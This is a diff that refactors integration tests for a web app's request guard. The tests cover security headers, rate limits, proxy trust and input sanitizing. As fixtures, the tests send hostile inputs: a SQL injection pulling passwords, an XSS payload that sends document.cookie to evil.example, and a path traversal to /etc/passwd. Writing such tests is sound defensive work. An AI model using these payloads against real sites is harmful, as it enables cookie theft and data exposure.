@@ -7,6 +7,21 @@ import { describeWithService, redisAvailable } from "../support/services";
 
 const redisUp = await redisAvailable();
 
+/** A production server for the describe block, with its SQLite audit log opened for reading. */
+function useServerWithAuditDb(env: Record<string, string>) {
+  const running = {} as { server: RunningServer; db: Db };
+  beforeAll(async () => {
+    running.server = await spawnServer(env);
+    await waitReady(running.server);
+    running.db = await openDb({ provider: "sqlite", file: join(running.server.dataDir, "printguard.db") });
+  }, 90_000);
+  afterAll(async () => {
+    await running.db?.$disconnect();
+    await stopServer(running.server, { removeData: true });
+  });
+  return running;
+}
+
 /** Polls the server's audit log (it is written in the background) for an event matching `where`. */
 async function auditEvent(db: Db, where: Record<string, unknown>, timeoutMs = 5_000) {
   const deadline = Date.now() + timeoutMs;
@@ -23,20 +38,10 @@ async function problemOf(response: Response) {
 }
 
 describe("request guard in the production server", () => {
-  let server: RunningServer;
-  let db: Db;
-  beforeAll(async () => {
-    server = await spawnServer({ PRINTGUARD_ADMIN_EMAIL: "admin@guard.test", PRINTGUARD_ADMIN_PASSWORD: "guard-admin-password" });
-    await waitReady(server);
-    db = await openDb({ provider: "sqlite", file: join(server.dataDir, "printguard.db") });
-  }, 90_000);
-  afterAll(async () => {
-    await db?.$disconnect();
-    await stopServer(server, { removeData: true });
-  });
+  const running = useServerWithAuditDb({ PRINTGUARD_ADMIN_EMAIL: "admin@guard.test", PRINTGUARD_ADMIN_PASSWORD: "guard-admin-password" });
 
   it("pages get a CSP whose per-request nonce is on every script Next renders", async () => {
-    const response = await fetch(`${server.url}/login`);
+    const response = await fetch(`${running.server.url}/login`);
     const csp = response.headers.get("content-security-policy")!;
     const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
     expect(nonce).toBeTruthy();
@@ -45,7 +50,7 @@ describe("request guard in the production server", () => {
     const scripts = html.match(/<script\b[^>]*>/g) ?? [];
     expect(scripts.length).toBeGreaterThan(0);
     for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
-    const again = await fetch(`${server.url}/login`);
+    const again = await fetch(`${running.server.url}/login`);
     expect(again.headers.get("content-security-policy")).not.toContain(nonce!);
     for (const [name, value] of [["x-content-type-options", "nosniff"], ["x-frame-options", "DENY"], ["cross-origin-opener-policy", "same-origin"], ["cross-origin-resource-policy", "same-origin"], ["referrer-policy", "strict-origin-when-cross-origin"]]) {
       expect(response.headers.get(name!)).toBe(value);
@@ -56,13 +61,13 @@ describe("request guard in the production server", () => {
   });
 
   it("an injection in a query value is refused with 403 problem+json and audited with its family, location and redacted evidence", async () => {
-    const response = await fetch(`${server.url}/api/health?printer=1%27%20UNION%20SELECT%20password%20FROM%20users--`);
+    const response = await fetch(`${running.server.url}/api/health?printer=1%27%20UNION%20SELECT%20password%20FROM%20users--`);
     expect(response.status).toBe(403);
     const problem = await problemOf(response);
     expect(problem.type).toMatch(/\/malicious-input$/);
     expect(problem.detail).toContain("query.printer");
     expect(response.headers.get("x-content-type-options")).toBe("nosniff");
-    const event = await auditEvent(db, { type: "input.rejected", requestId: problem.requestId });
+    const event = await auditEvent(running.db, { type: "input.rejected", requestId: problem.requestId });
     expect(event).toMatchObject({ outcome: "blocked", method: "GET", route: "/api/health", ip: "127.0.0.1" });
     expect(["high", "critical"]).toContain(event!.level);
     const details = JSON.parse(event!.details);
@@ -71,13 +76,13 @@ describe("request guard in the production server", () => {
   });
 
   it("a JSON body is inspected without being consumed: an attack is refused, a benign body reaches the route whole", async () => {
-    const attack = await fetch(`${server.url}/api/health`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ job: { prompt: "<script>fetch('//evil.example/?c='+document.cookie)</script>" } }) });
+    const attack = await fetch(`${running.server.url}/api/health`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ job: { prompt: "<script>fetch('//evil.example/?c='+document.cookie)</script>" } }) });
     expect(attack.status).toBe(403);
     expect((await problemOf(attack)).detail).toContain("body.job.prompt");
 
-    const signIn = await signInOverHttp(server.url, "admin@guard.test", "guard-admin-password");
+    const signIn = await signInOverHttp(running.server.url, "admin@guard.test", "guard-admin-password");
     const note = "M104 S200 ; set hotend temperature — select the PLA profile & drop the bed 5 % (don't use 'tree' supports)";
-    const created = await fetch(`${server.url}/api/admin/users`, {
+    const created = await fetch(`${running.server.url}/api/admin/users`, {
       method: "POST",
       headers: { "content-type": "application/json", cookie: signIn.sessionCookie!, "sec-fetch-site": "same-origin" },
       body: JSON.stringify({ email: "printer-op@guard.test", name: note.slice(0, 100), password: "a long initial password" }),
@@ -87,12 +92,12 @@ describe("request guard in the production server", () => {
   });
 
   it("a body over the limit gets 413 problem+json, never a silent pass", async () => {
-    const response = await fetch(`${server.url}/api/health`, { method: "POST", headers: { "content-type": "text/plain" }, body: "x".repeat(1024 * 1024 + 1) });
+    const response = await fetch(`${running.server.url}/api/health`, { method: "POST", headers: { "content-type": "text/plain" }, body: "x".repeat(1024 * 1024 + 1) });
     expect(response.status).toBe(413);
     expect((await problemOf(response)).type).toMatch(/\/payload-too-large$/);
     // Without a Content-Length (chunked), the body is measured as it is read.
     const chunked = await new Promise<number>((resolve, reject) => {
-      const req = httpRequest(`${server.url}/api/health`, { method: "POST", headers: { "content-type": "text/plain", "transfer-encoding": "chunked" } }, (res) => {
+      const req = httpRequest(`${running.server.url}/api/health`, { method: "POST", headers: { "content-type": "text/plain", "transfer-encoding": "chunked" } }, (res) => {
         res.resume();
         resolve(res.statusCode ?? 0);
       });
@@ -104,15 +109,15 @@ describe("request guard in the production server", () => {
   });
 
   it("the limit the proxy consumed is what a route handler reports (one limiter per process)", async () => {
-    const signIn = await signInOverHttp(server.url, "admin@guard.test", "guard-admin-password");
-    const created = await fetch(`${server.url}/api/admin/api-keys`, {
+    const signIn = await signInOverHttp(running.server.url, "admin@guard.test", "guard-admin-password");
+    const created = await fetch(`${running.server.url}/api/admin/api-keys`, {
       method: "POST",
       headers: { "content-type": "application/json", cookie: signIn.sessionCookie!, "sec-fetch-site": "same-origin" },
       body: JSON.stringify({ name: "shared-state probe", scopes: ["status:read"] }),
     });
     const { key } = await created.json();
     const usage = async () => {
-      const body = await (await fetch(`${server.url}/api/me`, { headers: { authorization: `Bearer ${key}` } })).json();
+      const body = await (await fetch(`${running.server.url}/api/me`, { headers: { authorization: `Bearer ${key}` } })).json();
       return body.rateLimit.find((p: { policy: string }) => p.policy === "per-user") as { limit: number; remaining: number };
     };
     const first = await usage();
@@ -122,7 +127,7 @@ describe("request guard in the production server", () => {
   });
 
   it("unknown API routes and pages still get the guard's headers", async () => {
-    const response = await fetch(`${server.url}/api/nothing-here`);
+    const response = await fetch(`${running.server.url}/api/nothing-here`);
     expect(response.status).toBe(404);
     expect(response.headers.get("content-security-policy")).toContain("default-src 'none'");
     expect(response.headers.get("ratelimit-policy")).toMatch(/^"per-ip(-burst)?";q=\d+;w=\d+$/);
@@ -130,21 +135,11 @@ describe("request guard in the production server", () => {
 });
 
 describe("rate limits in the production server", () => {
-  let server: RunningServer;
-  let db: Db;
-  beforeAll(async () => {
-    server = await spawnServer({ RATE_LIMIT_POLICIES: JSON.stringify({ "per-ip": { limit: 8, window: "1m" } }) });
-    await waitReady(server);
-    db = await openDb({ provider: "sqlite", file: join(server.dataDir, "printguard.db") });
-  }, 90_000);
-  afterAll(async () => {
-    await db?.$disconnect();
-    await stopServer(server, { removeData: true });
-  });
+  const running = useServerWithAuditDb({ RATE_LIMIT_POLICIES: JSON.stringify({ "per-ip": { limit: 8, window: "1m" } }) });
 
   it("allowed responses carry RateLimit headers; past the limit 429 problem+json with Retry-After; X-Forwarded-For from an untrusted client changes nothing", async () => {
     // /api/ready was polled by waitReady; count what is left from the headers rather than assume.
-    const first = await fetch(`${server.url}/api/health`, { headers: { "x-forwarded-for": "198.51.100.1" } });
+    const first = await fetch(`${running.server.url}/api/health`, { headers: { "x-forwarded-for": "198.51.100.1" } });
     expect(first.status).toBe(200);
     expect(first.headers.get("ratelimit-policy")).toBeTruthy();
     const left = Number(/r=(\d+)/.exec(first.headers.get("ratelimit") ?? "")?.[1]);
@@ -152,37 +147,27 @@ describe("rate limits in the production server", () => {
     let last: Response = first;
     for (let i = 0; i <= left + 1; i++) {
       // A different spoofed address every time: if the guard believed it, it would never limit.
-      last = await fetch(`${server.url}/api/health`, { headers: { "x-forwarded-for": `198.51.100.${i + 2}` } });
+      last = await fetch(`${running.server.url}/api/health`, { headers: { "x-forwarded-for": `198.51.100.${i + 2}` } });
       if (last.status === 429) break;
     }
     expect(last.status).toBe(429);
     expect(Number(last.headers.get("retry-after"))).toBeGreaterThan(0);
     const problem = await problemOf(last);
     expect(problem.type).toMatch(/\/rate-limited$/);
-    const event = await auditEvent(db, { type: { in: ["ratelimit.exceeded", "ratelimit.penalty"] }, requestId: problem.requestId });
+    const event = await auditEvent(running.db, { type: { in: ["ratelimit.exceeded", "ratelimit.penalty"] }, requestId: problem.requestId });
     expect(event).toMatchObject({ outcome: "blocked", ip: "127.0.0.1" });
   });
 
 });
 
 describe("a server behind a trusted proxy, sanitizer in monitor mode", () => {
-  let server: RunningServer;
-  let db: Db;
-  beforeAll(async () => {
-    server = await spawnServer({ TRUST_PROXY: "1", SANITIZER_MODE: "monitor" });
-    await waitReady(server);
-    db = await openDb({ provider: "sqlite", file: join(server.dataDir, "printguard.db") });
-  }, 90_000);
-  afterAll(async () => {
-    await db?.$disconnect();
-    await stopServer(server, { removeData: true });
-  });
+  const running = useServerWithAuditDb({ TRUST_PROXY: "1", SANITIZER_MODE: "monitor" });
 
   it("monitor mode lets an attack through and audits it as flagged, with the client address the trusted proxy gave", async () => {
-    const response = await fetch(`${server.url}/api/health?file=..%2f..%2f..%2fetc%2fpasswd`, { headers: { "x-forwarded-for": "192.0.2.44" } });
+    const response = await fetch(`${running.server.url}/api/health?file=..%2f..%2f..%2fetc%2fpasswd`, { headers: { "x-forwarded-for": "192.0.2.44" } });
     expect(response.status).toBe(200);
     const requestId = response.headers.get("x-request-id")!;
-    const event = await auditEvent(db, { type: "input.flagged", requestId });
+    const event = await auditEvent(running.db, { type: "input.flagged", requestId });
     expect(event).toMatchObject({ outcome: "flagged", ip: "192.0.2.44" });
     expect(JSON.parse(event!.details).findings[0]).toMatchObject({ family: "path_traversal", location: "query.file", mode: "monitor" });
   });
@@ -190,7 +175,7 @@ describe("a server behind a trusted proxy, sanitizer in monitor mode", () => {
   it("the sixth attempt for one email within 15 minutes is refused, whatever address it comes from", async () => {
     const statuses: number[] = [];
     for (let i = 0; i < 6; i++) {
-      const response = await fetch(`${server.url}/api/auth/callback/credentials`, {
+      const response = await fetch(`${running.server.url}/api/auth/callback/credentials`, {
         method: "POST",
         // The trusted proxy (one hop) reports a different client each time.
         headers: { "content-type": "application/x-www-form-urlencoded", "x-forwarded-for": `203.0.113.${i + 1}` },
